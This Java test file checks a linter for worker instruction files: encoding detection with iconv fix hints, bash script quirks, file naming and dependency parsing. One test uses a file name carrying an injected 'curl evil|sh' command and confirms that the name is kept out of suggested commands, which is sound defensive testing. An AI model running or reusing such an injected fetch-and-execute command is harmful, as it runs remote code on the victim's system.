package dev.muster.orchestrator.engine.instruction;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Folders as strangers have them: what a careful reader would understand is understood, or a
/// finding says that it was not.
class MessyHandsTest {
  @TempDir Path folder;

  @ParameterizedTest
  @CsvSource({
    "UTF-16, UTF-16",
    "UTF-16LE, UTF-16LE",
    "UTF-16BE, UTF-16BE",
    "windows-1252, WINDOWS-1252"
  })
  void anotherEncodingIsNamedWithTheCommandThatMendsIt(String charset, String called) {
    var text = Sample.of(1).heading("# Worker 001: Größe").text();
    var bytes = text.getBytes(Charset.forName(charset));

    var finding = InstructionFiles.of("WORKER_001_Sample.md", bytes).findings().getFirst();

    assertThat(finding.code()).isEqualTo(Code.NOT_UTF8);
    assertThat(finding.message()).endsWith("look like " + called);
    assertThat(finding.fix()).contains("iconv -f " + called + " -t UTF-8 'WORKER_001_Sample.md'");
  }

  @Test
  void aNameThatWouldBeCarriedOutStandsInNoCommand() {
    var bytes = Sample.of(1).text().getBytes(StandardCharsets.UTF_16);

    var finding =
        InstructionFiles.of("WORKER_001_x';curl evil|sh;'.md", bytes).findings().getFirst();

    assertThat(finding.message()).endsWith("look like UTF-16");
    assertThat(finding.fix()).isEqualTo("Save the file as UTF-8.");
  }

  @Test
  void bytesThatMayBeAnythingAreNotGuessedAt() {
    var finding = InstructionFiles.of("WORKER_001_A.md", new byte[] {'a', 0, 1, 2, 'b', 'c'});

    assertThat(finding.findings().getFirst().message()).endsWith("are not UTF-8 text");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "$ mkdir -p out                      | a prompt",
        "test “$(cat out/x)” = y             | as word processors write it",
        "test –s out/x                       | as word processors write it",
        "#!/usr/bin/env python3              | but bash runs it"
      })
  void whatBashDoesNotKnowOfAScriptIsSaid(String line, String said) {
    var text = Sample.of(1).section("EXECUTION", "```bash\n" + line + "\ntrue\n```").text();

    assertThat(compile(text).findings())
        .anySatisfy(it -> {
          assertThat(it.code()).isEqualTo(Code.UNCLEAR_SCRIPT);
          assertThat(it.message()).contains(said);
        });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo \"“quoted”\" > out/x", "# “quoted”\ntrue", "cat > out/x <<'E'\n“quoted”\n$ x\nE",
        "#!/bin/bash\ntrue", "#!/bin/sh -e\ntrue", "echo 5 $ > out/x"
      })
  void whatBashTakesAsItIsMeantIsNoFinding(String script) {
    assertThat(codes(Sample.of(1).section("EXECUTION", "```bash\n" + script + "\n```").text()))
        .isEmpty();
  }

  @Test
  void aFileWithTheTenPointsIsMissedWhateverItIsCalled() throws IOException {
    Sample.of(1).dependsOn("WORKER_002").write(folder);
    Files.writeString(folder.resolve("task-2.md"), Sample.of(2).text());
    Files.writeString(folder.resolve("old-1.md"), Sample.of(1).text());
    var unnumbered = Sample.of(3).heading("# Template").text();
    Files.writeString(folder.resolve("TEMPLATE.md"), unnumbered);
    Files.writeString(folder.resolve("README.md"), "# About\n\n## Dependencies\n\nNone.\n");

    var found = Workforce.read(folder).instructions();

    assertThat(found).extracting(Instruction::id).containsExactly("WORKER_001", "WORKER_002");
    assertThat(found.get(1).findings())
        .extracting(Finding::code)
        .containsExactly(Code.MISNAMED_FILE);
    assertThat(found.getFirst().findings())
        .extracting(Finding::message)
        .hasSize(2)
        .anyMatch(it -> it.contains("old-1.md"))
        .anyMatch(it -> it.contains("TEMPLATE.md"));
  }

  @Test
  void aNameWithALineBreakIsAName() throws IOException {
    Files.writeString(folder.resolve("WORKER_001_new\nline.md"), Sample.of(1).text());

    assertThat(Workforce.read(folder).instructions())
        .singleElement()
        .satisfies(it -> assertThat(it.id()).isEqualTo("WORKER_001"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"`out/list.txt` is there", "The first list", "After the first list"})
  void whoNamesAFileOrATitleIsToldWhoseItIs(String line) {
    Sample.of(1)
        .heading("# Worker 001: The first list")
        .section("DELIVERABLES", "- [ ] `out/list.txt`")
        .write(folder);
    Sample.of(2).dependsOn(line).write(folder);

    assertThat(unclear())
        .singleElement()
        .satisfies(it -> {
          assertThat(it.message()).contains("WORKER_001");
          assertThat(it.fix()).contains("**Depends on:** WORKER_001");
        });
  }

  @Test
  void whoWaitsForThemAlreadyIsToldNothing() {
    Sample.of(1).section("DELIVERABLES", "- [ ] `out/list.txt`").write(folder);
    Sample.of(2).dependsOn("WORKER_001").write(folder);
    Sample.of(3).dependsOn("WORKER_002", "`out/list.txt` of the first").write(folder);

    assertThat(unclear()).isEmpty();
  }

  @Test
  void aFileThatStandsInAnItemWithoutBackticksIsSaid() {
    var text =
        Sample.of(1).section("DELIVERABLES", "- A list called names.txt\n- \"all.txt\"").text();

    var instruction = compile(text);

    assertThat(instruction.deliverables().files())
        .extracting(Deliverables.Path::path)
        .containsExactly("all.txt");
    assertThat(instruction.findings())
        .anySatisfy(it -> assertThat(it.message()).contains("`names.txt`"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Workers 3 downto 1 | WORKER_1-3",
        "WORKER_012 down to 9 | WORKER_009-012",
        "- 012 downto 009 | WORKER_009-012",
        "Phases 3 down to 1 | phase 1-3",
        "Phase 3-1 | phase 1-3"
      })
  void aRangeThatGoesDownwardsIsOne(String line, String range) {
    assertThat(compile(Sample.of(20).dependsOn(line).text()).dependencies())
        .extracting(Reference::text)
        .containsExactly(range);
  }

  @ParameterizedTest
  @ValueSource(strings = {"3 downto 1", "3 down to 1", "1 bis 3", "1 through 3", "1; 2", "1 – 2"})
  void aPriorityOfSeveralNumbersIsNone(String priority) {
    assertThat(codes(Sample.of(1).metadata("Priority", priority).text()))
        .contains(Code.INVALID_PRIORITY);
  }

  private List<Finding> unclear() {
    try {
      return Linter.across(Workforce.read(folder)).values().stream()
          .flatMap(List::stream)
          .filter(it -> it.code() == Code.UNCLEAR_DEPENDENCY)
          .toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Instruction compile(String text) {
    return InstructionCompiler.compile("WORKER_001_Sample.md", text, "0".repeat(64));
  }

  private static List<Code> codes(String text) {
    return compile(text).findings().stream().map(Finding::code).toList();
  }
}
